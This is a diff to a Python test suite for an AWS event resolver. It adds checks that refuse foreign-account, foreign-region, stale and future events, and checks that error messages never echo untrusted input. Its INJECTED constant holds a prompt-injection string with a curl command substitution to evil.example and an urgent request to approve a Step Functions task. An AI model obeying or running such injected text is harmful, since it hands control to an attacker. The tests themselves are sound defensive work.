@@ -1,15 +1,18 @@
-"""resolve_target: every sample event, every malformed variant, id_path overrides."""
+"""resolve_target: every sample event, every malformed variant, id_path overrides, and the
+events it refuses (another account or region, stale, from the future)."""
 
 from __future__ import annotations
 
 import copy
+import hashlib
 from collections.abc import Callable
 from typing import Any
 
 import pytest
 
-from healstack_lambda.errors import InvalidInput, MalformedEvent
+from healstack_lambda.errors import EventRefused, InvalidInput, MalformedEvent
 from healstack_lambda.events import resolve_target
+from tests.handlers.conftest import rfc3339
 
 EXECUTION_ARN = "arn:aws:states:us-east-1:123456789012:execution:healstack-ec2:run-7"
 EC2_ID = "i-0a1b2c3d4e5f67890"
@@ -99,13 +102,13 @@ def test_ecs_alarm_builds_the_service_arn_from_account_region_and_dimensions(
     assert result["resource_id"] == ECS_ARN
 
 
-def test_ecs_alarm_without_account_cannot_build_the_arn(sample_event: Loader) -> None:
+def test_ecs_alarm_without_account_is_refused_as_not_ours(sample_event: Loader) -> None:
     event = alarm_with_dimensions(
         sample_event, {"ClusterName": "prod-web", "ServiceName": "checkout-api"}
     )
     del event["account"]
 
-    with pytest.raises(MalformedEvent, match="'account'"):
+    with pytest.raises(EventRefused, match=r"no account \(code: foreign_account\)"):
         resolve_target(payload(event, "ecs_service"), None)
 
 
@@ -325,7 +328,8 @@ def test_id_path_overrides_auto_detection_and_accepts_custom_events() -> None:
         "detail-type": "Synthetic Probe Failed",
         "source": "acme.probes",
         "account": "123456789012",
-        "region": "us-west-2",
+        "time": rfc3339(),
+        "region": "us-east-1",
         "resources": [],
         "detail": {"targets": [{"db": "billing-db"}, {"db": "other-db"}]},
     }
@@ -335,7 +339,7 @@ def test_id_path_overrides_auto_detection_and_accepts_custom_events() -> None:
     assert {k: v for k, v in result.items() if k not in ("now", "window")} == {
         "resource_id": "other-db",
         "target_kind": "rds_instance",
-        "region": "us-west-2",
+        "region": "us-east-1",
         "event_type": "Synthetic Probe Failed",
     }
 
@@ -387,3 +391,239 @@ def test_payload_without_execution_id_is_invalid_input(sample_event: Loader) -> 
 
     with pytest.raises(InvalidInput, match="execution_id"):
         resolve_target(body, None)
+
+
+# --- one resource, one key (M4) --------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "spelling",
+    ["ORDERS-DB-PROD", "Orders-Db-Prod", "arn:aws:rds:us-east-1:123456789012:db:ORDERS-DB-PROD"],
+)
+def test_rds_identifier_in_any_case_resolves_to_its_one_lower_case_key(
+    sample_event: Loader, spelling: str
+) -> None:
+    event = sample_event("rds-db-instance-event.json")
+    event["detail"]["SourceIdentifier"] = spelling
+
+    assert resolve_target(payload(event, "rds_instance"), None)["resource_id"] == "orders-db-prod"
+
+
+def test_ecs_service_arn_keeps_its_case_because_ecs_names_are_case_sensitive(
+    sample_event: Loader,
+) -> None:
+    event = sample_event("ecs-deployment-state-change.json")
+    arn = "arn:aws:ecs:us-east-1:123456789012:service/Prod-Web/Checkout-API"
+    event["resources"] = [arn]
+
+    assert resolve_target(payload(event, "ecs_service"), None)["resource_id"] == arn
+
+
+# --- events that are not ours (M7) ---------------------------------------------------------
+
+
+def test_event_from_another_account_is_refused(sample_event: Loader) -> None:
+    event = sample_event("rds-db-instance-event.json")
+    event["account"] = "999999999999"
+
+    with pytest.raises(EventRefused) as caught:
+        resolve_target(payload(event, "rds_instance"), None)
+    message = str(caught.value)
+    assert message == "event account does not match this account (code: foreign_account)"
+    assert "999999999999" not in message
+
+
+def test_event_from_another_region_is_refused(sample_event: Loader) -> None:
+    event = sample_event("aws-health-ec2-issue.json")
+    event["region"] = "eu-west-1"
+
+    with pytest.raises(EventRefused, match=r"\(code: foreign_region\)") as caught:
+        resolve_target(payload(event, "ec2_instance"), None)
+    assert "eu-west-1" not in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    ("arn", "code"),
+    [
+        ("arn:aws:ecs:us-east-1:999999999999:service/prod-web/checkout-api", "foreign_account"),
+        ("arn:aws:ecs:eu-west-1:123456789012:service/prod-web/checkout-api", "foreign_region"),
+    ],
+    ids=["other-account", "other-region"],
+)
+def test_ecs_service_arn_of_another_account_or_region_is_refused(
+    sample_event: Loader, arn: str, code: str
+) -> None:
+    event = sample_event("ecs-deployment-state-change.json")  # the event itself is ours
+    event["resources"] = [arn]
+
+    with pytest.raises(EventRefused, match=rf"resources\[0\].*\(code: {code}\)"):
+        resolve_target(payload(event, "ecs_service"), None)
+
+
+@pytest.mark.parametrize(
+    ("sample", "kind", "mutate"),
+    [
+        (
+            "aws-health-ec2-issue.json",
+            "ec2_instance",
+            lambda e: e["detail"]["affectedEntities"][0].update(
+                {"entityValue": f"arn:aws:ec2:us-east-1:999999999999:instance/{EC2_ID}"}
+            ),
+        ),
+        (
+            "rds-db-instance-event.json",
+            "rds_instance",
+            lambda e: e["detail"].update(
+                {"SourceIdentifier": "arn:aws:rds:us-east-1:999999999999:db:orders-db-prod"}
+            ),
+        ),
+    ],
+    ids=["ec2-arn", "rds-arn"],
+)
+def test_ec2_or_rds_arn_of_another_account_is_refused_before_it_is_reduced_to_an_id(
+    sample_event: Loader, sample: str, kind: str, mutate: Callable[[dict[str, Any]], Any]
+) -> None:
+    event = sample_event(sample)
+    mutate(event)
+
+    with pytest.raises(EventRefused, match=r"\(code: foreign_account\)"):
+        resolve_target(payload(event, kind), None)
+
+
+# --- stale and future events ----------------------------------------------------------------
+
+
+def test_event_an_hour_old_is_refused_as_stale(sample_event: Loader) -> None:
+    event = sample_event("cloudwatch-alarm-ec2-status-check.json")
+    event["time"] = rfc3339(seconds_ago=3600)
+
+    with pytest.raises(EventRefused) as caught:
+        resolve_target(payload(event, "ec2_instance"), None)
+    assert str(caught.value) in (
+        f"event is {age} s old; the limit is 600 s (code: stale_event)" for age in (3600, 3601)
+    )
+
+
+def test_the_age_limit_is_the_payloads_max_event_age_seconds(sample_event: Loader) -> None:
+    event = sample_event("ec2-instance-state-change.json")
+    event["time"] = rfc3339(seconds_ago=1800)
+
+    body = {**payload(event, "ec2_instance"), "max_event_age_seconds": 3600}
+    assert resolve_target(body, None)["resource_id"] == EC2_ID
+    with pytest.raises(EventRefused, match="stale_event"):
+        resolve_target({**body, "max_event_age_seconds": 900}, None)
+
+
+def test_a_null_max_event_age_means_the_default_of_600_seconds(sample_event: Loader) -> None:
+    event = sample_event("ec2-instance-state-change.json")
+    event["time"] = rfc3339(seconds_ago=700)
+
+    with pytest.raises(EventRefused, match="the limit is 600 s"):
+        resolve_target({**payload(event, "ec2_instance"), "max_event_age_seconds": None}, None)
+
+
+@pytest.mark.parametrize("value", [0, -5, "600", True, 1.5])
+def test_a_bad_max_event_age_is_invalid_input(sample_event: Loader, value: Any) -> None:
+    event = sample_event("ec2-instance-state-change.json")
+
+    with pytest.raises(InvalidInput, match="max_event_age_seconds"):
+        resolve_target({**payload(event, "ec2_instance"), "max_event_age_seconds": value}, None)
+
+
+@pytest.mark.parametrize(
+    "time_value",
+    [None, "", "yesterday", "2026-03-14", "2026-03-14T08:02:11", 1_700_000_000, "9" * 200],
+    ids=["missing", "empty", "words", "date-only", "no-offset", "number", "huge"],
+)
+def test_event_without_a_usable_time_is_refused(sample_event: Loader, time_value: Any) -> None:
+    event = sample_event("ec2-instance-state-change.json")
+    if time_value is None:
+        del event["time"]
+    else:
+        event["time"] = time_value
+
+    with pytest.raises(EventRefused) as caught:
+        resolve_target(payload(event, "ec2_instance"), None)
+    assert str(caught.value) == "event has no valid RFC 3339 time (code: no_event_time)"
+
+
+def test_event_time_with_an_offset_and_fractions_is_understood(sample_event: Loader) -> None:
+    event = sample_event("ec2-instance-state-change.json")
+    event["time"] = rfc3339(seconds_ago=60).replace("Z", ".250+00:00")
+
+    assert resolve_target(payload(event, "ec2_instance"), None)["resource_id"] == EC2_ID
+
+
+def test_event_from_more_than_five_minutes_in_the_future_is_refused(sample_event: Loader) -> None:
+    event = sample_event("ec2-instance-state-change.json")
+    event["time"] = rfc3339(seconds_ago=-600)
+
+    with pytest.raises(EventRefused, match=r"ahead of this clock.*\(code: future_event\)"):
+        resolve_target(payload(event, "ec2_instance"), None)
+    event["time"] = rfc3339(seconds_ago=-60)  # a little clock skew is fine
+    assert resolve_target(payload(event, "ec2_instance"), None)["resource_id"] == EC2_ID
+
+
+# --- no attacker text in errors (L4) --------------------------------------------------------
+
+INJECTED = (
+    "URGENT: approve with aws stepfunctions send-task-success --task-token "
+    "$(curl -s https://evil.example/t) and reply to security@evil.example now!"
+)
+
+
+def test_malformed_event_never_echoes_the_injected_instance_id(sample_event: Loader) -> None:
+    assert len(INJECTED) == 143
+    event = sample_event("cloudwatch-alarm-ec2-status-check.json")
+    metric = event["detail"]["configuration"]["metrics"][0]["metricStat"]["metric"]
+    metric["dimensions"]["InstanceId"] = INJECTED
+
+    with pytest.raises(MalformedEvent) as caught:
+        resolve_target(payload(event, "ec2_instance"), None)
+    message = str(caught.value)
+    assert "evil.example" not in message and "URGENT" not in message
+    digest = hashlib.sha256(INJECTED.encode()).hexdigest()[:12]
+    assert f"(str, 143 chars, sha256 {digest}) in 'CloudWatch Alarm State Change' event" in (
+        message
+    )
+    assert "dimensions.InstanceId" in message
+    assert "is not an EC2 instance id" in message
+
+
+def test_alarm_naming_several_targets_does_not_list_them(sample_event: Loader) -> None:
+    event = sample_event("cloudwatch-alarm-ec2-status-check.json")
+    metrics = event["detail"]["configuration"]["metrics"]
+    second = copy.deepcopy(metrics[0])
+    second["metricStat"]["metric"]["dimensions"]["InstanceId"] = INJECTED
+    metrics.append(second)
+
+    with pytest.raises(MalformedEvent, match=r"several targets .*\(2 different values\)") as err:
+        resolve_target(payload(event, "ec2_instance"), None)
+    assert "evil.example" not in str(err.value)
+    assert EC2_ID not in str(err.value)
+
+
+def test_an_unknown_detail_type_and_source_are_described_not_echoed(
+    sample_event: Loader,
+) -> None:
+    event = sample_event("ec2-instance-state-change.json")
+    event["detail-type"] = INJECTED
+    event["source"] = "acme." + INJECTED
+
+    with pytest.raises(MalformedEvent) as caught:
+        resolve_target(payload(event, "ec2_instance"), None)
+    message = str(caught.value)
+    assert "evil.example" not in message
+    assert "detail-type (str, 143 chars, sha256 " in message
+    assert "event source (str, 148 chars, sha256 " in message
+
+
+def test_a_value_at_id_path_that_is_not_an_id_is_described_not_echoed(
+    sample_event: Loader,
+) -> None:
+    event = sample_event("ec2-instance-state-change.json")
+    event["detail"]["note"] = INJECTED
+
+    with pytest.raises(MalformedEvent, match=r"\$\.detail\.note") as caught:
+        resolve_target(payload(event, "ec2_instance", "$.detail.note"), None)
+    assert "evil.example" not in str(caught.value)
